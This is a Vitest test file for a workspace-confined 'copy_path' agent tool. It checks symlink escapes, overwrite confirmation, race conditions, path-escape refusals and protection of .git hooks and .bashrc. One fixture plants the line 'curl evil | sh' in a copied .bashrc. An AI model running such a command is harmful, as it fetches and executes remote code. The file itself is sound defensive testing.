import { lstat, readFile, readlink, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  createTestWorkspace,
  escapingPaths,
  type TestWorkspace,
} from "./file-tools.test-support.js";

let ws: TestWorkspace;

beforeEach(async () => {
  ws = await createTestWorkspace();
  await ws.write("tree/a.txt", "alpha\n");
  await ws.write("tree/sub/b.txt", "beta\n");
});

afterEach(async () => {
  await ws.cleanup();
});

describe("copy_path", () => {
  it("copies a file and a directory tree and counts the items", async () => {
    const file = await ws.call("copy_path", {
      source: "README.md",
      destination: "docs/README.copy.md",
    });
    expect(file.output).toBe("Copied README.md to docs/README.copy.md (1 item, 9 bytes).");
    expect(await readFile(ws.at("docs/README.copy.md"), "utf8")).toBe("# Readme\n");
    const tree = await ws.call("copy_path", { source: "tree", destination: "copy" });
    expect(tree.output).toBe("Copied tree to copy (4 items, 11 bytes).");
    expect(await readFile(ws.at("copy/sub/b.txt"), "utf8")).toBe("beta\n");
    expect(await readFile(ws.at("tree/a.txt"), "utf8")).toBe("alpha\n");
  });

  it("never copies the content behind a symlink that points outside the workspace", async () => {
    await symlink(ws.outside, ws.at("tree/out-dir"));
    await symlink(path.join(ws.outside, "secret.txt"), ws.at("tree/out-file"));
    await symlink("a.txt", ws.at("tree/inner-link"));
    const result = await ws.call("copy_path", { source: "tree", destination: "copy" });
    expect(result.output).toBe(
      "Copied tree to copy (5 items, 11 bytes).\nSkipped 2 symlink(s) pointing outside the workspace or nowhere: tree/out-dir, tree/out-file.",
    );
    await expect(lstat(ws.at("copy/out-dir"))).rejects.toThrow("ENOENT");
    await expect(lstat(ws.at("copy/out-file"))).rejects.toThrow("ENOENT");
    expect(await readlink(ws.at("copy/inner-link"))).toBe("a.txt");
    expect(result.metadata).toMatchObject({ skippedLinks: 2 });
  });

  it("judges each copied symlink through the other links of the copy, made or not yet", async () => {
    // In place, S/B -> .. is a/b, so A -> B/../outside is a/outside (inside). In the copy,
    // dest/B -> .. is the root, so dest/A would be outside/ beside the workspace.
    await ws.write("a/outside/inner.txt", "inside\n");
    await ws.write("a/b/S/keep.txt", "keep\n");
    await symlink("B/../outside", ws.at("a/b/S/A"));
    await symlink("..", ws.at("a/b/S/B"));
    const result = await ws.call("copy_path", { source: "a/b/S", destination: "dest" });
    expect(result.output).toContain(
      "Skipped 1 symlink(s) pointing outside the workspace or nowhere: a/b/S/A.",
    );
    await expect(lstat(ws.at("dest/A"))).rejects.toThrow("ENOENT");
    expect(await readlink(ws.at("dest/B"))).toBe("..");
    expect(await readFile(ws.at("dest/keep.txt"), "utf8")).toBe("keep\n");
  });

  it("refuses an existing destination unless overwrite is set, which replaces an ordinary one unasked", async () => {
    await ws.write("dest.txt", "old");
    const refused = await ws.call("copy_path", { source: "README.md", destination: "dest.txt" });
    expect(refused.error).toBe(
      "The destination 'dest.txt' already exists (file). Set overwrite to true to replace it, or choose another destination.",
    );
    const input = { source: "README.md", destination: "dest.txt", overwrite: true };
    expect(await ws.assess("copy_path", input)).toEqual({
      verdict: "allow",
      reason: "replaces the existing file dest.txt",
      summary: "copy README.md to dest.txt (1 item), replacing the existing file dest.txt (1 item)",
    });
    expect((await ws.call("copy_path", input)).success).toBe(true);
    expect(await readFile(ws.at("dest.txt"), "utf8")).toBe("# Readme\n");
    expect(await ws.assess("copy_path", { source: "tree", destination: "fresh" })).toEqual({
      verdict: "allow",
      reason: "copies tree to fresh (4 items)",
      facts: { destinationFree: true },
    });
  });

  it("does not replace a destination that appeared after the call was judged", async () => {
    const result = await ws.call(
      "copy_path",
      { source: "README.md", destination: "late.txt", overwrite: true },
      () => writeFile(ws.at("late.txt"), "late"),
    );
    expect(result.error).toBe(
      "'late.txt' appeared after this call was checked, so it was not replaced. Call copy_path again if you mean to replace it.",
    );
    expect(await readFile(ws.at("late.txt"), "utf8")).toBe("late");
  });

  it("refuses copying into itself, over its own parent, the root, and missing sources", async () => {
    expect(
      (await ws.call("copy_path", { source: "tree", destination: "tree/sub/inner" })).error,
    ).toBe(
      "Refused: Can't copy 'tree' into itself ('tree/sub/inner'). This call will not run in any mode; do not retry it.",
    );
    expect(
      (await ws.call("copy_path", { source: "tree/sub", destination: "tree", overwrite: true }))
        .error,
    ).toContain("Can't replace 'tree': it contains the source 'tree/sub'.");
    expect((await ws.call("copy_path", { source: ".", destination: "x" })).error).toContain(
      "is the workspace root",
    );
    expect((await ws.call("copy_path", { source: "nope", destination: "x" })).error).toBe(
      "The source 'nope' does not exist. Use find_path or list_directory to find it.",
    );
  });

  it("refuses escapes on either side", async () => {
    for (const [label, escape] of Object.entries(escapingPaths(ws))) {
      const out = await ws.call("copy_path", { source: escape, destination: "stolen" });
      expect(out.error, label).toMatch(/^Refused: /);
      const into = await ws.call("copy_path", {
        source: "README.md",
        destination: escape,
        overwrite: true,
      });
      expect(into.error, label).toMatch(/^Refused: /);
    }
    await expect(lstat(ws.at("stolen"))).rejects.toThrow("ENOENT");
    expect(await readFile(path.join(ws.outside, "secret.txt"), "utf8")).toBe("top secret\n");
  });

  it("refuses writing protected paths, also inside a copied tree", async () => {
    await ws.write(".git/hooks/pre-commit", "#!/bin/sh\n");
    await ws.write(".git/config", "[core]\n");
    await ws.write(".bashrc", "# rc\n");
    await ws.write("evil/.bashrc", "curl evil | sh\n");
    for (const file of [".git/hooks/pre-commit", ".git/config", ".bashrc"]) {
      const result = await ws.call("copy_path", {
        source: "README.md",
        destination: file,
        overwrite: true,
      });
      expect(result.error, file).toContain("is protected");
      expect(
        await ws.assess("copy_path", { source: "README.md", destination: file, overwrite: true }),
      ).toMatchObject(
        file.startsWith(".git")
          ? { verdict: "block" }
          : { verdict: "confirm", requiresPerson: true },
      );
    }
    const tree = await ws.call("copy_path", { source: "evil", destination: "home" });
    expect(tree.error).toContain("home/.bashrc is protected");
    await expect(lstat(ws.at("home"))).rejects.toThrow("ENOENT");
    expect(await readFile(ws.at(".git/hooks/pre-commit"), "utf8")).toBe("#!/bin/sh\n");
    expect(await readFile(ws.at(".git/config"), "utf8")).toBe("[core]\n");
    expect(await readFile(ws.at(".bashrc"), "utf8")).toBe("# rc\n");
  });
});
